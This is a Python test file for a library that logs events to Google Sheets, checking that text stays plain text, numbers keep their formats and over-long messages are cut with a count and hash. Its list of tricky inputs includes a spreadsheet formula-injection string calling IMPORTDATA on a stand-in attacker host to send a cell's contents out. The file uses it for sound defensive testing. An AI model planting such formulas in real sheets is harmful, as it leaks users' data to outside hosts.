"""What is stored in cells: text as text, numbers as numbers, what is too long cut."""

from __future__ import annotations

import hashlib
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hilt.core.event import Actor
from hilt.io.sheets.cells import cell_data, truncate

from .conftest import answer_to, prompt_of, put


def test_number_formats_come_with_the_numbers(sheets, sink):
    """A cost of a fraction of a cent is shown as such."""
    put(sink, answer_to(prompt_of("x")))
    sink.flush(10)

    cost = sheets.book().tab("Logs").cell(1, 4)
    assert cost.format == {"numberFormat": {"type": "NUMBER", "pattern": "0.000000"}}


TRICKY = [
    '=IMPORTDATA("http://evil.example/?"&B2)',
    "+1",
    "-1",
    "@x",
    "'",
    "'=1+1",
    "\ttab first",
    "two\nlines\r\nand three",
    "🦜 emoji 👩‍👩‍👧",
    "שלום עולם",
    "a\x00b",
    "1,5",
    "2026-01-01",
    "TRUE",
    " ",
    "50%",
]


def test_no_text_becomes_anything_else(sheets, sink_of):
    """What looks like a formula, a number or a date is stored as the text that it is."""
    sink = sink_of(rows="events")
    sink.open()
    events = [
        prompt_of(text, extensions={"model": text, "reply_to": text}, provenance={"session": text})
        for text in TRICKY
    ]
    for event, text in zip(events, TRICKY, strict=True):
        event.session_id = text
        event.actor = Actor(type="human", id="user", name=text)
    put(sink, *events)

    assert sink.flush(10)
    tab = sheets.book().tab("Logs")
    assert tab.formulas() == []
    header = tab.values()[0]
    for row, text in zip(tab.values()[1:], TRICKY, strict=True):
        cells = dict(zip(header, row, strict=False))
        for column in ("conversation_id", "reply_to", "session", "message", "model"):
            assert cells[column] == text
        assert cells["speaker"] == f"human:{text}"


def test_text_beyond_a_cell_is_cut_and_states_what_is_missing(sheets, sink, rows):
    """60,000 characters do not fit; what is missing is stated, with a hash of the whole."""
    put(sink, prompt_of("x" * 60_000), prompt_of("🦜" * 30_000))

    assert sink.flush(10)
    first, second = (row["message"] for row in rows())
    assert len(first) == 50_000
    assert first.startswith("xxx")
    assert "…[+10,".replace(",", "") in first
    assert "chars sha256:" in first
    assert second.startswith("🦜🦜")
    assert len(second.encode("utf-16-le")) // 2 <= 50_000


@given(st.text())
def test_any_text_is_stored_as_itself(text):
    """No text becomes a number or a formula."""
    assert cell_data("model", text) == ({"userEnteredValue": {"stringValue": text}} if text else {})


@given(st.integers(1, 4), st.sampled_from("x🦜é"), st.integers(24_990, 25_010))
def test_cut_text_fits_and_says_what_is_missing(scale, letter, length):
    """At most 50,000 UTF-16 units, whole letters, a count and a hash of all of it."""
    text = letter * (length * scale)
    stored = truncate(text)

    assert len(stored.encode("utf-16-le")) // 2 <= 50_000
    if stored != text:
        kept, missing, digest = re.fullmatch(
            r"(.*)…\[\+(\d+) chars sha256:(\w+)\]", stored, re.DOTALL
        ).groups()
        assert kept + letter * int(missing) == text
        assert digest == hashlib.sha256(text.encode()).hexdigest()


@pytest.mark.parametrize(
    "number", [float("nan"), float("inf"), 2**60, 10**400], ids=["nan", "inf", "2**60", "10**400"]
)
def test_number_that_a_sheet_cannot_hold_is_text(number):
    """JSON has no NaN, and a double no 2**60: they are shown rather than changed."""
    assert cell_data("cost_usd", number) == {"userEnteredValue": {"stringValue": str(number)}}
